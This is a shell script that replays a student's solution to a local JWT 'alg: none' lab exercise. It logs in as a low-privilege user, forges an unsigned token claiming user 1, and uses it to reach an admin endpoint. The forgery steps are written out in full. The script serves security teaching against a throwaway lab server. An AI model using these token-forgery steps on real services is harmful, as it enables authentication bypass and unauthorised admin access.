#!/bin/sh
# A student solves `authcli lab alg-none --exercise`, scripted: the exercise runs in the
# background (its terminal is shown at the end, after one `h`), the student's commands run in
# the foreground, each shown as typed. examples.md's transcript is this script's output.
set -eu
cd "$(mktemp -d)"
export AUTHCLI_HOME=.  # progress.json goes here, not into your own
echo h | authcli lab alg-none --exercise --timeout 60 > exercise.txt 2>&1 &
until grep -q '^Hint 1 ' exercise.txt 2>/dev/null; do sleep 0.1; done  # the h was read
URL=$(sed -n 's/^Server: \(http:[^ ]*\).*/\1/p' exercise.txt)
run() { printf '$ %s\n' "$1"; eval "$1"; }
# The commands of hints 1, 3 and 4, as the exercise prints them (python3 reads the JSON: no jq).
run 'TOKEN=$(curl -s -X POST "$URL/login" -H '"'"'Content-Type: application/json'"'"' -d '"'"'{"email":"eve@example.com","password":"eve"}'"'"' | python3 -c '"'"'import json,sys; print(json.load(sys.stdin)["token"])'"'"')'
run 'curl -s -H "Authorization: Bearer $TOKEN" "$URL/admin"'
run 'FORGED=$(authcli tamper "$TOKEN" --set sub='"'"'"1"'"'"' --alg none)'
run 'curl -s -H "Authorization: Bearer $FORGED" "$URL/admin"'
wait
echo '--- the exercise, in its own terminal ---'
cat exercise.txt
rm -f exercise.txt progress.json
rmdir "$PWD"
